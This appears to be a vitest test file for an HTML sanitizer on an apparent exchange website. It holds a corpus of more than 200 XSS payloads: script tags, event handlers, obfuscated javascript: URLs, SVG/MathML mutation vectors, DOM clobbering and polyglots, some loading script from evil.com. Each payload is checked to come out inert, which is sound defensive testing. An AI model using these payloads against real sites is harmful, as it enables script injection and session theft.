// @vitest-environment jsdom
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { judgeUrl, makeSafeUrlPolicy } from '../core/safeUrl';
import { ALLOWED_ATTR, ALLOWED_TAGS, sanitizeHtml } from './sanitizeHtml';

const PAGE = 'https://exchange.example';
const policy = makeSafeUrlPolicy(PAGE, { extraOrigins: ['https://www.exchange.example', 'https://img.exchange-cdn.example'] });
const clean = (html: string) => sanitizeHtml(html, policy);

// Known vectors: script and noscript tricks, handlers, obfuscated script URLs, SVG and MathML
// namespace confusion (mXSS), embedding, forms, styles, meta/base/link, comments, DOM clobbering,
// polyglots, and addresses that leave the product.
const KNOWN_VECTORS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.com/x.js></SCRIPT>",
  "<script src=\"https://evil.com/x.js\"></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
  "<script/xss src=\"http://evil.com/x.js\"></script>",
  "<script>document.write('<img src=x onerror=alert(1)>')</script>",
  "<script type=\"module\">import('https://evil.com/x.js')</script>",
  "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<noscript><img src=x onerror=alert(1)></noscript>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"x\" onerror=\"alert(1)\">",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC= onmouseover=\"alert('xxs')\">",
  "<IMG onmouseover=\"alert('xxs')\">",
  "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
  "<a href=\" javascript:alert(1)\">x</a>",
  "<a href=\"&#106;avascript:alert(1)\">x</a>",
  "<a href=\"javascript&colon;alert(1)\">x</a>",
  "<a href=\"java&NewLine;script:alert(1)\">x</a>",
  "<a href=\"java&Tab;script:alert(1)\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<a href=\"//evil.com\">x</a>",
  "<a href=\"/\\evil.com\">x</a>",
  "<a href=\"https://exchange.example@evil.com\">x</a>",
  "<a href=\"https://evil.com#https://exchange.example\">x</a>",
  "<a href=\"https://exchange.example.evil.com/\">x</a>",
  "<a href=\"javascript:alert(1)\" target=\"_blank\">x</a>",
  "<a href=\"#\" onclick=\"alert(1)\">x</a>",
  "<a onmouseover=alert(1)>x</a>",
  "<a href=\"/x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
  "<a href=\"%0ajavascript:alert(1)\">x</a>",
  "<a href=\"/%0a/evil.com\">x</a>",
  "<a href=\"jav&#x61;script:alert(1)\">x</a>",
  "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">x</a>",
  "<a href=\"javascript&#58;alert(1)\">x</a>",
  "<a href=\"javascript&#0000058alert(1)\">x</a>",
  "<a href=\"  &#14; javascript:alert(1)\">x</a>",
  "<a href=\"javas&shy;cript:alert(1)\">x</a>",
  "<a href=\"&#8232;javascript:alert(1)\">x</a>",
  "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
  "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
  "<a href=\"javascript:alert(1)\"><img src=x></a>",
  "<div><a href=\"javas<!-- -->cript:alert(1)\">x</a></div>",
  "<a href=\"https://exchange.example/\" onclick=\"alert(1)\">x</a>",
  "<a href=\"https://exchange.example\" target=\"_top\">x</a>",
  "<a href=\"https://exchange.example\" ping=\"https://evil.com\">x</a>",
  "<a href=\"/x\" download=\"evil.exe\">x</a>",
  "<a href=\"/x\" formaction=\"javascript:alert(1)\">x</a>",
  "<a href=\"openex://trade\" onclick=alert(1)>x</a>",
  "<a href=\"javascript:alert(1)\" is=\"x-y\">x</a>",
  "<a href=\"#\" onanimationstart=alert(1) style=\"animation-name:x\">x</a>",
  "<a id=\"__proto__\">x</a>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
  "<svg><script href=\"data:,alert(1)\" /></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
  "<math href=\"javascript:alert(1)\">CLICKME</math>",
  "<math><maction actiontype=\"statusline#http://google.com\" xlink:href=\"javascript:alert(1)\">CLICKME</maction></math>",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<iframe src=\"https://evil.com\"></iframe>",
  "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
  "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
  "<iframe><img src=x onerror=alert(1)></iframe>",
  "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
  "<object type=\"text/x-scriptlet\" data=\"https://evil.com/x.sct\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<embed code=\"javascript:alert(1)\"></embed>",
  "<applet code=\"x.class\"></applet>",
  "<param name=\"movie\" value=\"javascript:alert(1)\">",
  "<form action=\"javascript:alert(1)\"><input type=submit></form>",
  "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
  "<input onfocus=alert(1) autofocus>",
  "<input type=\"image\" src=\"javascript:alert(1)\">",
  "<select onfocus=alert(1) autofocus>",
  "<textarea onfocus=alert(1) autofocus>",
  "<keygen onfocus=alert(1) autofocus>",
  "<isindex action=\"javascript:alert(1)\" type=image>",
  "<video><source onerror=\"alert(1)\">",
  "<video poster=javascript:alert(1)//></video>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<marquee><img src=x onerror=alert(1)></marquee>",
  "<dialog open onclose=alert(1)>",
  "<bdo dir=rtl onclick=alert(1)>x</bdo>",
  "<div style=\"background-image: url(javascript:alert('XSS'))\">",
  "<div style=\"width: expression(alert('XSS'));\">",
  "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
  "<style>@import 'javascript:alert(\"XSS\")';</style>",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<style><img src=x onerror=alert(1)></style>",
  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<base href=\"https://evil.com/\">",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
  "<table onmouseover=alert(1)><tr><td>x</td></tr></table>",
  "<td background=\"javascript:alert(1)\">",
  "<XSS STYLE=\"behavior: url(xss.htc);\">",
  "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<p><!--</p><img src=x onerror=alert(1)>--></p>",
  "<template><script>alert(1)</script></template>",
  "<template><img src=x onerror=alert(1)></template>",
  "<div id=\"x\"></div><a id=x name=x href=\"javascript:alert(1)\">",
  "<img name=\"getElementById\">",
  "<form id=\"test\"><input id=\"attributes\">",
  "<img src=x id=cookie name=cookie>",
  "<div data-bind=\"html: alert(1)\">x</div>",
  "<div x-html=\"alert(1)\">x</div>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<x onclick=alert(1)>click</x>",
  "<img src=x onerror=alert(1)//",
  "<img src=x onerror&#61;alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)>",
  "<img src=\"x\" onerror  =  \"alert(1)\">",
  "<img src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\"></img>",
  "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
  "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
  "<img src=x:x onerror=alert(1)>",
  "<img src=\"/logo.png\" onload=\"alert(1)\">",
  "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<img src=\"data:text/html,<script>alert(1)</script>\">",
  "<img src=\"https://evil.com/track.gif\">",
  "<img src=\"blob:https://evil.com/5a1b4f8e\">",
  "<img srcset=\"javascript:alert(1) 1x\">",
  "<img src=\"/a.png\" srcset=\"https://evil.com/a.png 2x\">",
  "<picture><source srcset=\"javascript:alert(1)\"></picture>",
  "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
  "<q cite=\"javascript:alert(1)\">q</q>",
  "<p style=\"color:red\" onclick=\"alert(1)\">x</p>",
  "<h1 onmouseenter=alert(1)>x</h1>",
  "<pre onclick=alert(1)><code>x</code></pre>",
  "<code><script>alert(1)</script></code>",
  "<pre><script>alert(1)</script></pre>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<noframes><img src=x onerror=alert(1)></noframes>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<listing><img src=x onerror=alert(1)></listing>",
  "<div onfocus=alert(1) tabindex=0 contenteditable>x</div>",
  "<span onpointerover=alert(1)>x</span>",
  "\"><script>alert(1)</script>",
  "'><img src=x onerror=alert(1)>",
  "</p><script>alert(1)</script><p>",
  "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
  "<p title=\"<script>alert(1)</script>\">x</p>",
  "<a href=\"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  "<div><p>ok</p><img src=x onerror=alert(1)><table><tr><td><svg onload=alert(1)></td></tr></table></div>",
  "<a href=\"https://exchange.example/%0d%0aLocation:evil\">x</a>",
  "<img src=\"//evil.com/x.png\">",
  "<a href=\"ftp://exchange.example/\">x</a>",
  "<a href=\"file:///etc/passwd\">x</a>",
  "<a href=\"blob:https://evil.com/1\">x</a>",
  "<a href=\"intent://scan/#Intent;scheme=zxing;end\">x</a>",
  "<a href=\"https:evil.com\">x</a>",
  "<img src=\"https://img.exchange-cdn.example/a.png\" onerror=\"alert(1)\">",
];

// Every event handler on every kind of allowed element.
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationend', 'ontoggle', 'onpointerdown', 'onbeforeprint', 'onwheel', 'oncopy'];
const HANDLER_TAGS = ['p', 'img', 'a', 'table', 'h2', 'span', 'div', 'td'];
const HANDLER_VECTORS = HANDLERS.flatMap((handler) => HANDLER_TAGS.map((tag) => `<${tag} ${handler}="alert(1)" title="t">x</${tag}>`));

// Script addresses written the ways browsers still read as script, in each URL-bearing attribute.
const SCRIPT_URLS = [
  'javascript:alert(1)', 'JavaScript:alert(1)', 'javascript\t:alert(1)', 'java\u0000script:alert(1)', '\u0001javascript:alert(1)',
  'java&#9;script:alert(1)', 'java&#10;script:alert(1)', 'java&#13;script:alert(1)', '&#x20;javascript:alert(1)', 'javascript&#x3A;alert(1)',
  'vbscript:msgbox(1)', 'VBSCRIPT:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '//evil.com/x', '/\\evil.com', 'https://evil.com',
  'https://exchange.example@evil.com', 'livescript:alert(1)',
];
const URL_VECTORS = SCRIPT_URLS.flatMap((url) => {
  const quoted = url.replace(/"/g, '&quot;');
  return [`<a href="${quoted}">x</a>`, `<img src="${quoted}" alt="x">`];
});

const VECTORS = [...new Set([...KNOWN_VECTORS, ...HANDLER_VECTORS, ...URL_VECTORS])];

const RAW_FORBIDDEN = /<\/?(?:script|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|textarea|select|option|style|link|meta|base|noscript|template|video|audio|source|param|xmp|plaintext|noembed|noframes|title|body|html|head)\b/i;
const ADDED_ATTR = new Set(['target', 'rel', 'loading']);
const SCRIPT_VALUE = /^\s*(?:javascript|vbscript|livescript):|^\s*data:(?!image\/(?:png|jpeg|gif|webp)[;,])/i;

/** Reads the output as the browser will (dangerouslySetInnerHTML) and fails on anything that could run or leave. */
function expectInert(html: string): void {
  expect(html).not.toMatch(RAW_FORBIDDEN);
  const template = document.createElement('template');
  template.innerHTML = html;
  const walker = document.createTreeWalker(template.content, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    expect(node.nodeType, 'only elements').toBe(Node.ELEMENT_NODE);
    const element = node as Element;
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    expect(ALLOWED_TAGS).toContain(element.localName);
    for (const { name, value } of Array.from(element.attributes)) {
      // DOMPurify empties an 'is' it may not be able to remove; empty, it names no custom element.
      if (name === 'is') {
        expect(value).toBe('');
        continue;
      }
      expect(name).not.toMatch(/^on/i);
      expect(ALLOWED_ATTR.includes(name) || ADDED_ATTR.has(name), `attribute ${name}`).toBe(true);
      expect(value).not.toMatch(SCRIPT_VALUE);
      if (name === 'href' || name === 'src') expect(judgeUrl(value, policy).allowed, `${name}=${value}`).toBe(true);
    }
    if (element.getAttribute('target') === '_blank') expect(element.getAttribute('rel')).toBe('noopener noreferrer');
  }
}

beforeEach(() => {
  vi.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(() => {
  vi.restoreAllMocks();
});

describe('the XSS corpus', () => {
  it('holds at least 200 distinct vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(200);
  });

  it.each(VECTORS)('%s', (vector) => {
    const once = clean(vector);
    expectInert(once);
    // A second pass changes nothing: what the browser parses back is what was checked (no mutation XSS).
    expect(clean(once)).toBe(once);
  });
});

// Benign markup and what must survive it.
const BENIGN: Array<[html: string, survives: string[]]> = [
  ['<h1>Title</h1><h2>Sub</h2><h6>Small</h6>', ['<h1>Title</h1>', '<h2>Sub</h2>', '<h6>Small</h6>']],
  ['<p>Bitcoin <strong>rose</strong> <em>sharply</em>.</p>', ['<p>Bitcoin <strong>rose</strong> <em>sharply</em>.</p>']],
  ['<ul><li>One</li><li>Two</li></ul><ol start="3" reversed=""><li>Three</li></ol>', ['<ul><li>One</li><li>Two</li></ul>', '<ol start="3" reversed="">']],
  ['<dl><dt>APR</dt><dd>Annual rate</dd></dl>', ['<dl><dt>APR</dt><dd>Annual rate</dd></dl>']],
  ['<blockquote><p>Quote</p></blockquote>', ['<blockquote><p>Quote</p></blockquote>']],
  ['<pre><code>const x = 1 &lt; 2;</code></pre>', ['<pre><code>const x = 1 &lt; 2;</code></pre>']],
  ['<figure><img src="/img/chart.png" alt="Chart" width="600" height="400"><figcaption>BTC/USDT</figcaption></figure>', ['<img src="/img/chart.png" alt="Chart" width="600" height="400" loading="lazy">', '<figcaption>BTC/USDT</figcaption>']],
  ['<table><caption>Fees</caption><thead><tr><th scope="col">Tier</th></tr></thead><tbody><tr><td colspan="2">0.1%</td></tr></tbody></table>', ['<caption>Fees</caption>', '<th scope="col">Tier</th>', '<td colspan="2">0.1%</td>']],
  ['<a href="/research/articles/2">Next</a>', ['<a href="/research/articles/2">Next</a>']],
  ['<a href="#section">Jump</a>', ['<a href="#section">Jump</a>']],
  ['<a href="https://exchange.example/fee">Fees</a>', ['<a href="https://exchange.example/fee">Fees</a>']],
  ['<a href="https://www.exchange.example/download">App</a>', ['<a href="https://www.exchange.example/download" target="_blank" rel="noopener noreferrer">App</a>']],
  ['<a href="mailto:support@exchange.example">Mail</a>', ['<a href="mailto:support@exchange.example">Mail</a>']],
  ['<a href="tel:+15550100">Call</a>', ['<a href="tel:+15550100">Call</a>']],
  ['<a href="openex://trade/spot/BTCUSDT">Open app</a>', ['<a href="openex://trade/spot/BTCUSDT">Open app</a>']],
  ['<img src="https://img.exchange-cdn.example/a.png" alt="a">', ['src="https://img.exchange-cdn.example/a.png"']],
  ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">', ['src="data:image/png;base64,iVBORw0KGgo="']],
  ['<p><abbr title="Bitcoin">BTC</abbr> <time datetime="2024-05-01">May</time> <mark>new</mark> H<sub>2</sub>O x<sup>2</sup></p>', ['<abbr title="Bitcoin">BTC</abbr>', '<time datetime="2024-05-01">May</time>', '<mark>new</mark>', '<sub>2</sub>', '<sup>2</sup>']],
  ['<p lang="ar" dir="rtl">مرحبا</p>', ['<p lang="ar" dir="rtl">مرحبا</p>']],
  ['<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>', ['<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>']],
  ['<p>Before<script>alert(1)</script>After</p>', ['<p>BeforeAfter</p>']],
  ['<p>Shown</p><noscript><p>Enable JavaScript</p></noscript>', ['<p>Shown</p>']],
  ['<p>Kept<!-- hidden note --> text</p>', ['<p>Kept text</p>']],
  ['<p style="color:red" class="x" id="y">Styled</p>', ['<p>Styled</p>']],
  ['<p>Read <a href="javascript:alert(1)">this</a> now</p>', ['<p>Read <span>this</span> now</p>']],
  ['<p><a href="/%5Cevil.com" title="Fees" target="_blank" lang="de">Geb<b>ühren</b></a></p>', ['<p><span title="Fees" lang="de">Geb<b>ühren</b></span></p>']],
  ['<p><a name="top">Anchor without address</a></p>', ['<p><span>Anchor without address</span></p>']],
  ['<center>Old <font color="red">markup</font></center>', ['Old markup']],
  ['<form><p>Inside a form</p></form>', ['<p>Inside a form</p>']],
  ['<p>Text with javascript: in it</p>', ['<p>Text with javascript: in it</p>']],
];

describe('benign markup', () => {
  it.each(BENIGN)('%s', (html, survives) => {
    const out = clean(html);
    expectInert(out);
    for (const piece of survives) expect(out).toContain(piece);
  });

  it('drops the bodies of script and noscript, not only their tags', () => {
    const out = clean('<p>a</p><script>var secret = 1;</script><noscript>Enable JavaScript</noscript><p>b</p>');
    expect(out).toBe('<p>a</p><p>b</p>');
  });

  it('strips every comment', () => {
    expect(clean('<!-- a --><p>x<!-- b --></p><!--[if IE]>c<![endif]-->')).toBe('<p>x</p>');
  });
});

describe('addresses', () => {
  it('logs each refused href and src with the specification message', () => {
    clean('<a href="javascript:alert(1)">x</a><img src="https://evil.com/a.png">');
    expect(console.warn).toHaveBeenCalledWith('invalid href', expect.objectContaining({ reason: 'not-allowed' }));
    expect(console.warn).toHaveBeenCalledWith('invalid url', expect.objectContaining({ url: 'https://evil.com/a.png', reason: 'foreign-host' }));
  });

  it('leaves no anchor without an address: a refused link is text', () => {
    const out = clean('<p>See <a href="//evil.com">one</a>, <a href="/%2f%2fevil.com">two</a> and <a href="/fee">three</a></p>');
    expect(out).toBe('<p>See <span>one</span>, <span>two</span> and <a href="/fee">three</a></p>');
  });

  it('assigns the trimmed address', () => {
    expect(clean('<a href="  /fee  ">x</a>')).toBe('<a href="/fee">x</a>');
  });

  it('reads the page origin from the window by default', () => {
    const here = window.location.origin;
    expect(sanitizeHtml(`<a href="${here}/x">x</a>`)).toBe(`<a href="${here}/x">x</a>`);
    expect(sanitizeHtml('<a href="https://exchange.example/x">x</a>')).toBe('<span>x</span>');
  });
});
